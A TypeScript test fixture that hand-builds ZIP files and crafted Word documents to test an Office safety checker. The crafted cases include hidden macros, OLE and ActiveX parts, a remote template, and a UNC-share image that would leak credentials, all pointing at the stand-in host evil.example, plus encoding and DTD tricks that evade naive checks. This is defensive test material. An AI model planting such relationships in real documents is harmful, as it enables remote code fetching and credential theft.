import { crc32, deflateRawSync } from 'node:zlib';

/**
 * A ZIP file built by hand for tests of the Office check: stored or deflated entries, with the same local
 * headers, central directory and end record Word and PowerPoint write. No package needed, nothing hidden.
 */
export type ZipPart = string | Buffer | { content: string | Buffer; deflate?: boolean };

export function zipOf(entries: Record<string, ZipPart>, options: { comment?: string; deflate?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, part] of Object.entries(entries)) {
    const { content, deflate = options.deflate ?? false } = typeof part === 'object' && !Buffer.isBuffer(part) ? part : { content: part };
    const nameBytes = Buffer.from(name, 'utf8');
    const raw = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
    const data = deflate ? deflateRawSync(raw) : raw;
    const method = deflate ? 8 : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(raw), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    locals.push(local, nameBytes, data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(raw), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    directory.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directoryBytes = Buffer.concat(directory);
  const comment = Buffer.from(options.comment ?? '', 'latin1');
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directoryBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...locals, directoryBytes, end, comment]);
}

const relationships = (...items: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;

const officeType = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const microsoftType = (name: string) => `http://schemas.microsoft.com/office/2006/relationships/${name}`;

/** A relationship as Word writes it; `external` adds TargetMode="External". */
export const relationship = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;

/** The parts of a minimal Word document: its content types, the package's and the document's relationships. */
export const docxParts = {
  '[Content_Types].xml':
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  '_rels/.rels': relationships(relationship('rId1', officeType('officeDocument'), 'word/document.xml')),
  'word/document.xml':
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>',
  'word/_rels/document.xml.rels': relationships(
    relationship('rId1', officeType('styles'), 'styles.xml'),
    // A link a reader clicks is allowed: it fetches nothing when the file opens.
    relationship('rId2', officeType('hyperlink'), 'https://www.kvk.nl/starten/', true),
    relationship('rId3', officeType('hyperlink'), 'mailto:hallo@startsprong.nl', true),
  ),
  'word/styles.xml': '<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
};

const withDocumentRelationships = (...items: string[]) => ({
  ...docxParts,
  'word/_rels/document.xml.rels': relationships(relationship('rId1', officeType('styles'), 'styles.xml'), ...items),
});

/** Crafted Word documents, each with one thing that runs or fetches code, as an attacker would send them. */
export const craftedDocx = {
  /** A .docm renamed .docx: its VBA project under the usual name. */
  macros: { ...docxParts, 'word/vbaProject.bin': 'VBA-project-bytes' },
  /** The same VBA project under an innocent name, found only through its relationship. */
  hiddenMacros: {
    ...withDocumentRelationships(relationship('rId9', microsoftType('vbaProject'), 'media/image9.bin')),
    'word/media/image9.bin': 'VBA-project-bytes',
  },
  /** An embedded OLE object (an executable packaged into the document). */
  oleObject: {
    ...withDocumentRelationships(relationship('rId9', officeType('oleObject'), 'embeddings/oleObject1.bin')),
    'word/embeddings/oleObject1.bin': 'OLE-compound-file',
  },
  /** An OLE object stored under another folder, found only through its relationship. */
  hiddenOleObject: {
    ...withDocumentRelationships(relationship('rId9', officeType('oleObject'), 'media/object.bin')),
    'word/media/object.bin': 'OLE-compound-file',
  },
  /** An ActiveX control. */
  activeX: {
    ...withDocumentRelationships(relationship('rId9', officeType('control'), 'activeX/activeX1.xml')),
    'word/activeX/activeX1.xml': '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    'word/activeX/_rels/activeX1.xml.rels': relationships(relationship('rId1', microsoftType('activeXControlBinary'), 'activeX1.bin')),
    'word/activeX/activeX1.bin': 'ActiveX-bytes',
  },
  /** A remote template, fetched (with its macros) when the document opens: the settings' relationship. */
  remoteTemplate: {
    ...docxParts,
    'word/settings.xml': '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    'word/_rels/settings.xml.rels': relationships(
      relationship('rId1', officeType('attachedTemplate'), 'https://evil.example/sjabloon.dotm', true),
    ),
  },
  /** An image fetched from a Windows share when the document opens (it hands over the reader's credentials). */
  externalImage: withDocumentRelationships(relationship('rId9', officeType('image'), 'file://///evil.example/share/logo.png', true)),
  /** A "hyperlink" to a Windows share: not a web or mail address. */
  shareHyperlink: withDocumentRelationships(relationship('rId9', officeType('hyperlink'), '\\\\evil.example\\share\\plan.exe', true)),
  /** TargetMode written with character references, which a text search would not see. */
  encodedExternal: withDocumentRelationships(
    `<Relationship Id="rId9" Type="${officeType('image')}" Target="https://evil.example/pixel.png" TargetMode="&#69;xternal"/>`,
  ),
  /** A DTD whose entity would hide the target mode from a check that does not expand it. */
  doctype: {
    ...docxParts,
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('rId1', officeType('styles'), 'styles.xml')}<Relationship Id="rId9" Type="${officeType('image')}" Target="https://evil.example/pixel.png" TargetMode="&e;"/></Relationships>`,
  },
};

/** Each crafted document with what the check must find in it. */
export const craftedCases = [
  ['a VBA project', craftedDocx.macros, 'macros'],
  ['a VBA project under an innocent name', craftedDocx.hiddenMacros, 'macros'],
  ['an embedded OLE object', craftedDocx.oleObject, 'embedded-object'],
  ['an OLE object under an innocent name', craftedDocx.hiddenOleObject, 'embedded-object'],
  ['an ActiveX control', craftedDocx.activeX, 'activex'],
  ['a remote template', craftedDocx.remoteTemplate, 'external-link'],
  ['an image from a Windows share', craftedDocx.externalImage, 'external-link'],
  ['a hyperlink to a Windows share', craftedDocx.shareHyperlink, 'external-link'],
  ['a target mode hidden in character references', craftedDocx.encodedExternal, 'external-link'],
  ['a DTD whose entity hides the target mode', craftedDocx.doctype, 'unreadable'],
] as const;

/** The VBA project a .docm carries, as the earlier tests named it. */
export const docmParts = craftedDocx.macros;
